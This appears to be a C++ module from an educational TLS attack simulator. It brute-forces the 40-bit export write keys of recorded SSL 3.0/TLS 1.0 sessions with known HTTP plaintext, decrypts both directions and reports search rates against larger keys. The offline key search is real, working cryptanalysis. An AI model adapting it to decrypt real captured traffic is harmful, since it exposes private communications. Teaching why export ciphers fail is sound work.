// export-bruteforce: a passive eavesdropper records a session under an export suite (RC4-40,
// RC2-CBC-40, DES40-CBC) and, offline, searches the 40 secret bits of the client's write key.
// From the wire it takes the two randoms (ClientHello, ServerHello) and the client's first
// application data record; the known plaintext is "GET /", the start of any HTTP request. Each
// candidate goes through what a real endpoint computes: the export final write key (MD5 in
// SSL 3.0, the PRF in TLS 1.0: RFC 6101 6.2.2.1, RFC 2246 6.3.1), the cipher's key schedule
// and the first keystream bytes or first block. The same search, run for the server's write key
// with "HTTP/" as known plaintext, opens the response.
//
// The one concession: a run searches only `search_bits` (--bits) low bits of the 40; the others
// are given to the attacker as a stated hint, read from the victim's key_block derivation. With
// --bits 40 nothing is given. Defended, the server refuses export suites: the session runs
// under a full-size key and the same slice search (the same hint bits, the rest unknown) finds
// nothing.
#include <algorithm>
#include <chrono>
#include <cmath>
#include <cstdio>
#include <thread>

#include "attack/script.hpp"
#include "attack/slice_search.hpp"
#include "crypto/crypto.hpp"
#include "crypto/key_search.hpp"
#include "hs/key_schedule.hpp"

namespace sim::attack {

namespace {

constexpr size_t kHeader = 5;
constexpr unsigned kExportBits = 40;

std::string hex_of(ByteView b) {
  static const char* d = "0123456789abcdef";
  std::string s;
  for (uint8_t x : b) {
    s += d[x >> 4];
    s += d[x & 15];
  }
  return s;
}

// The 40 searched-for bits as hex, '?' for each nibble holding an unknown bit.
std::string masked_hex(uint64_t hint, unsigned unknown_bits) {
  std::string s;
  for (int nib = 9; nib >= 0; --nib) {
    unsigned lo_bit = unsigned(nib) * 4;
    s += lo_bit < unknown_bits ? '?' : "0123456789abcdef"[(hint >> lo_bit) & 15];
  }
  return s;
}

std::string seconds_text(double s) {
  char buf[32];
  std::snprintf(buf, sizeof buf, s < 1000 ? "%.3g s" : "%.2e s", s);
  return buf;
}

std::string number_text(double x) {
  char buf[32];
  std::snprintf(buf, sizeof buf, x < 1e6 ? "%.0f" : "%.3g", x);
  return buf;
}

// What the wire shows of one side's protected records (those after its ChangeCipherSpec).
struct SideRecords {
  std::vector<uint32_t> events;  // trace events, in order
  std::vector<Bytes> records;    // whole records
  // Index (in `records`) of the first application_data record; -1 when none.
  int first_app = -1;
};

class ExportBruteforce : public Script {
 public:
  explicit ExportBruteforce(const ScenarioOptions& o) : bits_(std::clamp(o.search_bits, 1u, kExportBits)) {}

  bool has_analysis() const override { return true; }

  void analyze(const Trace& t, Progress& progress) override {
    seconds_ = timed([&] { run(t, progress); });
    cancelled_ = progress.cancelled() && !client_key_;
    analyzed_ = true;
  }

  std::optional<AttackReport> report(const Trace& t, bool over) const override {
    bool done = over && analyzed_;
    AttackReport r = make_report(won_text(), lost_text(), t, done, done && client_key_.has_value(), evidence(t));
    if (!done && !r.stopped_by_alert) {
      r.succeeded.reset();
      r.summary = msg("attack.result.in_progress");
    }
    set_work(r, work_, "candidates", cancelled_, seconds_);
    if (done && cancelled_)
      r.summary = msg("attack.export-bruteforce.cancelled").arg("work", std::to_string(work_)).arg("seconds", seconds_text(seconds_));
    return r;
  }

 protected:
  bool succeeded(const Trace&) const override { return analyzed_ && client_key_.has_value(); }

  std::vector<AttackEvidence> evidence(const Trace&) const override {
    std::vector<AttackEvidence> ev;
    if (!analyzed_) return ev;
    std::string given = std::to_string(kExportBits - bits_), searched = std::to_string(bits_);
    ev.push_back(text_evidence("search_slice", msg("evidence.export_bruteforce.slice").arg("given", given).arg("searched", searched),
                               to_bytes(masked_hex(client_hint_, bits_)), client_event_));
    if (client_key_) {
      ev.push_back(hex_evidence("client_write_key", msg("evidence.export_bruteforce.client_write_key"), *client_key_, client_event_));
      ev.push_back(hex_evidence("final_client_write_key", msg("evidence.export_bruteforce.final_client_write_key"), client_final_, client_event_));
      ev.push_back(text_evidence("request_read", msg("evidence.request_read"), request_, client_event_));
    }
    if (server_key_) {
      ev.push_back(hex_evidence("server_write_key", msg("evidence.export_bruteforce.server_write_key"), *server_key_, server_event_));
      ev.push_back(text_evidence("response_read", msg("evidence.export_bruteforce.response_read"), response_, server_event_));
    }
    if (work_ && seconds_ > 0) {
      double rate = double(work_) / seconds_;
      ev.push_back(text_evidence("rate", msg("evidence.export_bruteforce.rate").arg("threads", std::to_string(threads_)),
                                 to_bytes(number_text(rate))));
      for (unsigned b : {40u, 56u, 128u})
        ev.push_back(text_evidence("time_" + std::to_string(b), msg("evidence.export_bruteforce.time").arg("bits", std::to_string(b)),
                                   to_bytes(seconds_text(std::ldexp(1.0, int(b)) / rate))));
    }
    return ev;
  }

 private:
  Message won_text() const {
    double rate = seconds_ > 0 ? double(work_) / seconds_ : 0;
    return msg(server_key_ ? "attack.export-bruteforce.succeeded" : "attack.export-bruteforce.succeeded_client")
        .arg("searched", std::to_string(bits_))
        .arg("given", std::to_string(kExportBits - bits_))
        .arg("work", std::to_string(work_))
        .arg("seconds", seconds_text(seconds_))
        .arg("t40", seconds_text(rate > 0 ? std::ldexp(1.0, 40) / rate : 0));
  }
  Message lost_text() const {
    double rate = seconds_ > 0 ? double(work_) / seconds_ : 0;
    if (!suite_) return msg("attack.export-bruteforce.failed_no_session");
    if (!suite_->exportable())
      return msg("attack.export-bruteforce.failed_full_key")
          .arg("suite", std::string(suite_->name))
          .arg("key_bits", std::to_string(suite_->key_len * 8))
          .arg("searched", std::to_string(bits_))
          .arg("left", std::to_string(suite_->key_len * 8 - kExportBits))
          .arg("time", seconds_text(rate > 0 ? std::ldexp(1.0, int(suite_->key_len * 8)) / rate : 0));
    if (no_data_) return msg("attack.export-bruteforce.failed_no_data");
    return msg("attack.export-bruteforce.failed_not_found").arg("searched", std::to_string(bits_));
  }

  // Randoms, version and suite from the ClientHello and ServerHello records, and each side's
  // protected records: all of it on the wire.
  bool read_wire(const Trace& t) {
    bool ccs[2] = {false, false};
    for (size_t i = 0; i < t.events.size(); ++i) {
      const Event& e = t.events[i];
      if (e.attack || e.connection != 1 || e.bytes.size() < kHeader) continue;
      if (e.from != Actor::client && e.from != Actor::server) continue;
      const Bytes& b = e.bytes;
      int side = e.from == Actor::client ? 0 : 1;
      if (ccs[side]) {
        side_[side].events.push_back(uint32_t(i));
        side_[side].records.push_back(b);
        if (side_[side].first_app < 0 && b[0] == uint8_t(ContentType::application_data))
          side_[side].first_app = int(side_[side].records.size() - 1);
        continue;
      }
      if (b[0] == uint8_t(ContentType::change_cipher_spec)) ccs[side] = true;
      auto type = handshake_type(e);
      if (type == HandshakeType::client_hello && b.size() >= 43 && cr_.empty()) cr_.assign(b.begin() + 11, b.begin() + 43);
      if (type == HandshakeType::server_hello && b.size() >= 43 && sr_.empty()) {
        size_t p = kHeader + 4;
        version_ = uint16_t(b[p] << 8 | b[p + 1]);
        sr_.assign(b.begin() + long(p + 2), b.begin() + long(p + 34));
        p += 34;
        if (p < b.size()) p += 1 + b[p];
        if (p + 2 <= b.size()) suite_ = suite_by_id(uint16_t(b[p] << 8 | b[p + 1]));
      }
    }
    return suite_ && cr_.size() == 32 && sr_.size() == 32 && (version_ == kSsl3 || version_ == kTls10);
  }

  // The one concession: the high 40 - bits of the first 40 bits of the write key, as the
  // victim's key_block derivation shows them (nothing with --bits 40).
  uint64_t hint_from(const Trace& t, const std::string& part) const {
    if (bits_ >= kExportBits) return 0;
    for (const Event& e : t.events)
      for (const Derivation& d : all_derivations(e)) {
        if (d.name != "key_block" || d.actor != Actor::client) continue;
        for (auto& p : d.parts)
          if (p.name == part && p.length >= 5 && p.offset + 5 <= d.output.size()) {
            uint64_t v = 0;
            for (size_t i = 0; i < 5; ++i) v = v << 8 | d.output[p.offset + i];
            return v & ~((uint64_t(1) << bits_) - 1);
          }
      }
    return 0;
  }

  // The probe for one side: its first application data record against the known plaintext.
  std::optional<crypto::KeyProbe> probe_for(int side) const {
    const SideRecords& s = side_[side];
    if (s.first_app < 0) return std::nullopt;
    const Bytes& rec = s.records[size_t(s.first_app)];
    ByteView frag = ByteView(rec).subspan(kHeader);
    crypto::KeyProbe p;
    p.cipher = suite_->cipher;
    p.kdf = !suite_->exportable() ? crypto::ExportKdf::none
            : version_ == kSsl3   ? crypto::ExportKdf::ssl3_md5
                                  : crypto::ExportKdf::tls10_prf;
    p.client_side = side == 0;
    p.client_random = cr_;
    p.server_random = sr_;
    p.key_len = suite_->key_len;
    p.final_key_len = suite_->expanded_key_len;
    p.known = to_bytes(side == 0 ? "GET /" : "HTTP/");
    size_t block = suite_->block_len;
    if (block == 0) {
      // RC4 runs on across records: the keystream the earlier records used, their lengths on the wire.
      for (int i = 0; i < s.first_app; ++i) p.stream_offset += s.records[size_t(i)].size() - kHeader;
      if (frag.size() < p.known.size()) return std::nullopt;
      p.ciphertext.assign(frag.begin(), frag.begin() + long(p.known.size()));
    } else {
      // CBC in SSL 3.0 and TLS 1.0: the record's IV is the previous record's last block.
      if (s.first_app == 0 || frag.size() < block) return std::nullopt;
      const Bytes& prev = s.records[size_t(s.first_app - 1)];
      if (prev.size() < kHeader + block) return std::nullopt;
      p.chain.assign(prev.end() - long(block), prev.end());
      p.ciphertext.assign(frag.begin(), frag.begin() + long(block));
    }
    return p;
  }

  // The write key with its first 40 bits `v` (the rest, beyond 40 bits, unknown: zero).
  Bytes key_of(uint64_t v) const {
    Bytes k(suite_->key_len, 0);
    for (size_t i = 0; i < 5; ++i) k[i] = uint8_t(v >> (8 * (4 - i)));
    return k;
  }

  // The record layer of one side under a candidate write key, with the engine's own export
  // derivation (final key and IV from the randoms): each protected record's content, without
  // MAC and padding (not checked: the MAC key is not export-limited and stays unknown).
  std::vector<Bytes> decrypt_side(int side, const Bytes& write_key) const {
    std::vector<Bytes> out;
    Derivation kb = derive_keys(Actor::attacker, version_, *suite_, Bytes(48, 0), cr_, sr_);
    for (auto& p : kb.parts)
      if (p.name == (side == 0 ? "client_write_key" : "server_write_key"))
        std::copy(write_key.begin(), write_key.end(), kb.output.begin() + long(p.offset));
    auto exp = derive_export_keys(Actor::attacker, version_, *suite_, kb, cr_, sr_);
    KeyBlock k = key_material(version_, *suite_, kb, exp);
    const Bytes& key = side == 0 ? k.client_write_key : k.server_write_key;
    Bytes iv = side == 0 ? k.client_write_iv : k.server_write_iv;
    size_t block = suite_->block_len;
    std::optional<crypto::Rc4> rc4;
    if (!block) rc4.emplace(key);
    for (const Bytes& rec : side_[side].records) {
      ByteView frag = ByteView(rec).subspan(kHeader);
      Bytes plain;
      if (!block) {
        plain = rc4->process(frag);
      } else if (frag.size() % block == 0 && !frag.empty()) {
        plain = crypto::cbc_decrypt(suite_->cipher, key, iv, frag);
        iv.assign(frag.end() - long(block), frag.end());
        size_t pad = plain.empty() ? 0 : plain.back() + 1u;
        plain.resize(plain.size() >= pad ? plain.size() - pad : 0);
      }
      plain.resize(plain.size() >= suite_->mac_len ? plain.size() - suite_->mac_len : 0);
      out.push_back(std::move(plain));
    }
    return out;
  }

  // A candidate that matched the known bytes is the key when the whole record reads as the
  // start of an HTTP message: a first line of printable text ended by CRLF (a false match on
  // five bytes happens about once in 2^40 keys).
  bool confirm(int side, const Bytes& write_key) const {
    auto plain = decrypt_side(side, write_key);
    const Bytes& app = plain[size_t(side_[side].first_app)];
    std::string s(app.begin(), app.end());
    size_t eol = s.find("\r\n");
    if (eol == std::string::npos || eol < 5) return false;
    return std::all_of(s.begin(), s.begin() + long(eol), [](char c) { return c >= 0x20 && c < 0x7f; });
  }

  // The search over the slice, with every core.
  std::optional<Bytes> search(int side, uint64_t hint, Progress& progress) {
    auto probe = probe_for(side);
    if (!probe) {
      no_data_ = true;
      return std::nullopt;
    }
    SliceResult r = search_slice(*probe, hint, bits_, threads_, progress, [&](uint64_t v) { return confirm(side, key_of(v)); });
    work_ += r.tried;
    if (!r.found) return std::nullopt;
    return key_of(*r.found);
  }

  void run(const Trace& t, Progress& progress) {
    if (!read_wire(t)) return;
    threads_ = std::max(1u, std::thread::hardware_concurrency());
    bool both = suite_->exportable();
    progress.set_total((uint64_t(1) << bits_) * (both ? 2 : 1));
    client_hint_ = hint_from(t, "client_write_key");
    if (side_[0].first_app >= 0) client_event_ = side_[0].events[size_t(side_[0].first_app)];
    progress.set_partial(masked_hex(client_hint_, bits_));
    client_key_ = search(0, client_hint_, progress);
    if (!client_key_) return;
    client_final_ = crypto::KeyTester(*probe_for(0)).final_key(client_key_->data());
    auto plain = decrypt_side(0, *client_key_);
    for (size_t i = 0; i < plain.size(); ++i)
      if (side_[0].records[i][0] == uint8_t(ContentType::application_data)) append(request_, plain[i]);
    progress.set_partial(hex_of(*client_key_));
    // The server's write key: 40 other bits, the same search with the response's first bytes.
    uint64_t server_hint = hint_from(t, "server_write_key");
    if (side_[1].first_app >= 0) server_event_ = side_[1].events[size_t(side_[1].first_app)];
    server_key_ = search(1, server_hint, progress);
    no_data_ = false;  // the server sending nothing does not undo what the client's key opened
    if (!server_key_) return;
    plain = decrypt_side(1, *server_key_);
    for (size_t i = 0; i < plain.size(); ++i)
      if (side_[1].records[i][0] == uint8_t(ContentType::application_data)) append(response_, plain[i]);
    progress.set_partial(hex_of(*client_key_) + " " + hex_of(*server_key_));
  }

  unsigned bits_;
  unsigned threads_ = 1;
  bool analyzed_ = false, cancelled_ = false, no_data_ = false;
  uint64_t work_ = 0;
  double seconds_ = 0;
  Bytes cr_, sr_;
  uint16_t version_ = 0;
  const CipherSuiteInfo* suite_ = nullptr;
  SideRecords side_[2];
  uint64_t client_hint_ = 0;
  std::optional<uint32_t> client_event_, server_event_;
  std::optional<Bytes> client_key_, server_key_;
  Bytes client_final_, request_, response_;
};

}  // namespace

std::shared_ptr<Attacker> export_bruteforce(const ScenarioOptions& o) { return std::make_shared<ExportBruteforce>(o); }

}  // namespace sim::attack
